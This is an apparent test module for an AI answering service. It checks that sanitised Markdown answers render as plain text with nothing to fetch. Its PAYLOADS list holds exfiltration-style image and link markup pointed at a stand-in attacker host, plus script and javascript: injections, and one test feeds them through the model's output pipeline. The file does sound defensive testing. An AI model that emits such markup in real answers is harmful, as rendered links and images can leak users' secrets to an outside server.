"""What a client that renders Markdown would make of an answer: text, and nothing to fetch."""

from __future__ import annotations

import re
from collections.abc import AsyncGenerator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.answering.context import supported_blocks
from app.answering.inert import inert
from app.answering.verdicts import Verdicts
from app.answering.wording import in_short, quoted
from tests.answering.passages import passage, quote

_LINK = re.compile(r"https?://|ftp://|www\.\w|mailto:\w", re.IGNORECASE)

PAYLOADS = [
    "![logo](https://evil.example/p.png?q=secret) is here",
    "Read [the policy](https://evil.example/x) first",
    "Read [the policy][1] first [1]: https://evil.example/x",
    "<img src=https://evil.example/p.png> and <script>alert(1)</script>",
    "<https://evil.example/auto> and https://evil.example/bare?q=1 and //evil.example/p",
    "www.evil.example or someone@evil.example or mailto:someone@evil.example",
    "javascript:alert(1) and data:image/png;base64,AAAA",
    "![x](//evil.example/p.png) &lt;img src=x&gt; &#60;img src=x&#62;",
    "`code` then ![a](http://evil.example/`b`.png)",
    r"\![x](https://evil.example/p.png) and \\[y](https://evil.example)",
    "# Heading\n\n---\n\n| a | b |\n| - | - |",
    "> nested [9] quote *bold* ~~gone~~ [^1]",
    "https://evil.example/`![x](https://evil.example/p.png)`",
    "hTTps://evil.example/a_b_c(d)[e] ftp://evil.example/x",
]


def tokens(markdown: str) -> set[str]:
    """Everything that a permissive renderer makes; `bare link` for an address in running text,
    which GitHub's dialect would make a link of."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    found: set[str] = set()
    for token in parser.parse(markdown):
        found.add(token.type)
        for child in token.children or ():
            found.add(child.type)
            if child.type.startswith("text") and _LINK.search(child.content):
                found.add("bare link")
    return found


HARMLESS = {
    "paragraph_open", "paragraph_close", "inline", "text", "code_inline", "blockquote_open",
    "blockquote_close", "strong_open", "strong_close", "softbreak", "text_special",
}  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_stay_text(payload: str) -> None:
    assert tokens(inert(payload)) <= HARMLESS
    assert tokens(quoted([quote(payload)])) <= HARMLESS
    assert tokens(in_short(payload, 1)) <= HARMLESS


@given(st.text(alphabet="ab1 \n\\`*_[]()<>!|#+-=~&;:/.@w$^\"'", max_size=60))
def test_no_text_becomes_markup(text: str) -> None:
    assert tokens(inert(text)) <= HARMLESS
    assert tokens(quoted([quote(text)])) <= HARMLESS


async def test_a_larger_model_cannot_link_either() -> None:
    async def pieces(payload: str) -> AsyncGenerator[str]:
        for at in range(0, len(payload), 3):
            yield payload[at : at + 3]

    for payload in PAYLOADS:
        # the question and a passage hold it too, so that nothing but the rendering stops it
        told = passage(payload)
        blocks = supported_blocks(pieces(payload), payload, [told], "code", Verdicts())
        released = "".join([block async for block in blocks])
        assert tokens(released) <= HARMLESS, payload
